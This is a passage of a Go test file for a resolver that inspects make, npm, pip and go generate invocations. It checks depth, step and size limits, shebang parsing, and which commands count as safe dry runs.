	deep.WriteString("t0:")
	for i := range MaxDepth + 3 {
		deep.WriteString(" t" + itoa(i+1) + "\nt" + itoa(i+1) + ":")
	}
	deep.WriteString("\n\ttrue\n")
	many := strings.Repeat("x:\n", 1) + strings.Repeat("\ttrue\n", MaxSteps+1)
	tests := []struct {
		name, cmd string
		files     fakeFiles
		reason    string
	}{
		{"npm run chains", "npm run s0", fakeFiles{"/w/package.json": chain.String()}, "scripts run scripts too deeply (at s9)"},
		{"make prerequisite chains", "make t0", fakeFiles{"/w/Makefile": deep.String()}, "make's prerequisites chain too deeply (at t9)"},
		{"references", "make", fakeFiles{"/w/Makefile": expo()}, "make variables expand to too many references"},
		{"steps", "make", fakeFiles{"/w/Makefile": many}, "it runs more than 512 steps"},
		{"file size", "make", fakeFiles{"/w/Makefile": strings.Repeat("#", MaxFileSize+1)}, "the file is larger than 262144 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := strings.Fields(tt.cmd)
			got := Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w}, tt.files)
			var reasons []string
			for _, p := range got.Problems {
				reasons = append(reasons, p.Reason)
			}
			if !slices.Contains(reasons, tt.reason) {
				t.Errorf("problems %q, want %q among them", reasons, tt.reason)
			}
		})
	}
}

func TestShebangLang(t *testing.T) {
	for text, want := range map[string]Lang{
		"#!/bin/sh\n":                  Shell,
		"#!/usr/bin/env -S python3 -u": Python,
		"#!/usr/bin/env node\n":        "node",
		"echo hi":                      "",
		"#!":                           "",
	} {
		if got := shebangLang(text); got != want {
			t.Errorf("shebangLang(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestShebangProgram(t *testing.T) {
	for text, want := range map[string]string{
		"#!/bin/bash -e\necho":                       "bash",
		"  #!/bin/sh":                                "sh",
		"#!/usr/bin/env bash":                        "bash",
		"#!/usr/bin/env -S bash -euo pipefail\n":     "bash",
		"#!/usr/bin/env -Sbash -e":                   "bash",
		"#!/usr/bin/env -S NODE_ENV=production node": "node",
		"#!/usr/bin/env -i PATH=/usr/bin python3":    "python3",
		"#!/usr/bin/env -u HOME -C /tmp perl -w":     "perl",
		"#!/usr/bin/env --split-string=ruby":         "ruby",
		"#!/usr/bin/env -S /opt/bin/deno run -A":     "deno",
		"#!/usr/bin/env":                             "",
		"#!/usr/bin/env -S":                          "",
		"echo hi":                                    "",
		"":                                           "",
	} {
		if got := ShebangProgram(text); got != want {
			t.Errorf("ShebangProgram(%q) = %q, want %q", text, got, want)
		}
	}
}

// expo is a Makefile whose variables double at each level, with empty
// values: little text, exponential work.
func expo() string {
	var b strings.Builder
	b.WriteString("V12 =\n")
	for i := range 12 {
		b.WriteString("V" + itoa(i) + " = $(V" + itoa(i+1) + ")$(V" + itoa(i+1) + ")$(V" + itoa(i+1) + ")\n")
	}
	b.WriteString("all:\n\techo $(V0)\n")
	return b.String()
}

// TestOnlyDryRun checks that OnlyDryRun reads nothing for a command that
// runs its build file, and resolves a dry run as usual.
func TestOnlyDryRun(t *testing.T) {
	fs := fakeFiles{"/w/Makefile": "all:\n\t+true\n", "/w/package.json": `{"scripts":{"test":"x"}}`, "/w/setup.py": "x"}
	for _, tt := range []struct {
		cmd  string
		want Plan
	}{
		{"make", Plan{}},
		{"npm test", Plan{}},
		{"pip install -e .", Plan{}},
		{"go generate ./...", Plan{}},
		{"make -n", Plan{Runner: "make", DryRun: true, Read: []string{"/w/Makefile"}, Size: 12, Steps: []Step{st("Makefile", 2, "true")}}},
		{"go generate -n", Plan{Runner: "go generate", DryRun: true}},
		{"make -t", Plan{}},
		{"npm install --ignore-scripts", Plan{}},
	} {
		f := strings.Fields(tt.cmd)
		got := Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w, OnlyDryRun: true}, fs)
		if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("Resolve(%q, OnlyDryRun) (-want +got):\n%s", tt.cmd, diff)
		}
	}
}

// TestDryRunWithoutMakefile: make -n in a directory without a makefile
// prints what its built-in rules would do and runs nothing, unless the
// directory holds something make could make a makefile from (it does that
// first, even under -n), does not exist (nothing is known of it) or cannot
// be listed.
func TestDryRunWithoutMakefile(t *testing.T) {
	dry := Plan{Runner: "make", DryRun: true, Read: []string{"/w/"}}
	for _, tt := range []struct {
		name string
		fs   Files
		cmd  string
		want Plan
	}{
		{"sources only", fakeFiles{"/w/main.c": "int main(){}", "/w/src/x.c": ""}, "make -n build", dry},
		{"no directory", fakeFiles{}, "make -n build", Plan{}},
		{"-C into a directory without one", fakeFiles{"/w/sub/a.txt": "x"}, "make -n -C sub", Plan{Runner: "make", DryRun: true, Read: []string{"/w/sub/"}}},
		{"Makefile.c compiled into a makefile", fakeFiles{"/w/Makefile.c": "int main(){}"}, "make -n build", Plan{Read: []string{"/w/"}}},
		{"Makefile.sh copied into a makefile", fakeFiles{"/w/makefile.sh": "echo"}, "make -n", Plan{Read: []string{"/w/"}}},
		{"RCS checkout", fakeFiles{"/w/RCS/Makefile,v": "x"}, "make -n", Plan{Read: []string{"/w/"}}},
		{"SCCS checkout", fakeFiles{"/w/s.Makefile": "x"}, "make -n", Plan{Read: []string{"/w/"}}},
		{"a directory that cannot be listed", readOnly{fakeFiles{"/w/main.c": ""}}, "make -n", Plan{Problems: []Problem{{File: "/w", Reason: "the directory cannot be listed"}}}},
		{"not a dry run", fakeFiles{"/w/main.c": ""}, "make build", Plan{}},
		{"touch is not a dry run", fakeFiles{"/w/main.c": ""}, "make -t build", Plan{}},
	} {
		f := strings.Fields(tt.cmd)
		got := Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w, OnlyDryRun: true}, tt.fs)
		if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%s: Resolve(%q, OnlyDryRun) (-want +got):\n%s", tt.name, tt.cmd, diff)
		}
	}
}
